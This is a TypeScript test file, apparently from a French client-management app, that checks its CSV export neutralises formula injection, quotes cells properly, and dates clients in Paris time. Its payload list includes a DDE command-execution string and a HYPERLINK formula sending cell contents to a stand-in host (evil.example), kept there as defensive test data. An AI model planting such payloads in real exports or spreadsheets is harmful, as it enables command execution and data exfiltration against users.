import { describe, expect, it } from 'vitest';
import { parseCsv } from '../src/shared/csv.ts';
import { CLIENT_CSV_COLUMNS, clientCsvCells } from '../src/clients/export-clients.ts';
import { csvCell, csvLine } from '../src/shared/csv-cells.ts';

// CSV injection: a cell a spreadsheet would run as a formula (or whose leading control character
// hides one) is written with a leading apostrophe, so it stays text. Every such first character,
// in any cell. The export as a whole, every column of clients stored with such values, runs
// against PostgreSQL in client-export.test.ts.

/** What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP). */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;
const PAYLOADS = ['cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', '1+1', 'SUM(A1:A9)', ''];

/** The text of a quoted cell: quotes off, doubled quotes single. */
const unquoted = (cell: string) => {
  expect(cell.startsWith('"') && cell.endsWith('"'), cell).toBe(true);
  return cell.slice(1, -1).replace(/""/g, '"');
};

describe('csvCell', () => {
  it('neutralises every formula-leading character, whatever follows', () => {
    for (const start of FORMULA_STARTS) {
      for (const payload of PAYLOADS) {
        const value = `${start}${payload}`;
        expect(unquoted(csvCell(value)), JSON.stringify(value)).toBe(`'${value}`);
      }
    }
  });

  it('leaves a value that does not start like a formula as it is, even with those characters inside', () => {
    for (const value of ['Dupont', 'a=b', 'Jean-Pierre', 'x@example.test', '33 6 12 34 56 78', ' =1+1 (espace devant)', "'déjà entre apostrophes", '', '日本']) {
      expect(unquoted(csvCell(value)), value).toBe(value);
    }
  });

  it('quotes every cell and doubles the quotes inside, so a separator or a line break stays in its cell', () => {
    expect(csvCell('Société "Le Bon"; et fils\r\nLyon')).toBe('"Société ""Le Bon""; et fils\r\nLyon"');
    expect(csvCell('=A1;"B"')).toBe('"\'=A1;""B"""');
  });

  it('reads back as the same cells, one per column, whatever they hold', () => {
    const cells = ['=1+1', 'a;b', 'quote " here', 'line\r\nbreak', '\tx', '-2', '+33612345678', '@SUM(A1)', 'plain'];
    const [record] = parseCsv(csvLine(cells), ';');
    expect(record!.cells).toEqual(cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
    expect(csvLine(['a', 'b'])).toBe('"a";"b"\r\n');
  });
});

describe('the client export line', () => {
  const client = {
    displayName: 'DUPONT Jean',
    kind: 'person' as const,
    email: 'jean@example.test',
    phone: '+33612345678',
    city: 'Lyon',
    status: 'active' as const,
    tags: ['vip', 'salon'],
    createdAt: '2026-03-05T10:00:00.000Z',
  };

  it('has the columns of the header, in French', () => {
    expect(CLIENT_CSV_COLUMNS).toEqual(['Nom', 'Type', 'Email', 'Téléphone', 'Ville', 'Statut', 'Étiquettes', 'Créé le']);
    expect(clientCsvCells(client)).toEqual(['DUPONT Jean', 'Particulier', 'jean@example.test', '+33612345678', 'Lyon', 'Actif', 'vip, salon', '2026-03-05']);
  });

  it('names kinds and statuses in French and leaves missing values empty', () => {
    const company = { ...client, kind: 'company' as const, email: null, phone: null, city: null, tags: [] };
    expect(clientCsvCells(company)).toEqual(['DUPONT Jean', 'Entreprise', '', '', '', 'Actif', '', '2026-03-05']);
    expect((['prospect', 'active', 'inactive', 'archived'] as const).map((status) => clientCsvCells({ ...client, status })[5])).toEqual(['Prospect', 'Actif', 'Inactif', 'Archivé']);
  });
});

describe('the creation day of an exported client', () => {
  it('is the day in Paris, not in UTC (late evening in winter and in summer)', () => {
    const cells = (createdAt: string) =>
      clientCsvCells({ displayName: 'Dupont', kind: 'person', email: null, phone: null, city: null, status: 'active', tags: [], createdAt });
    const created = CLIENT_CSV_COLUMNS.indexOf('Créé le');
    expect(cells('2026-03-14T23:30:00.000Z')[created]).toBe('2026-03-15'); // 00:30 in Paris (UTC+1)
    expect(cells('2026-07-14T22:15:00.000Z')[created]).toBe('2026-07-15'); // 00:15 in Paris (UTC+2)
    expect(cells('2026-07-14T21:59:00.000Z')[created]).toBe('2026-07-14');
  });
});
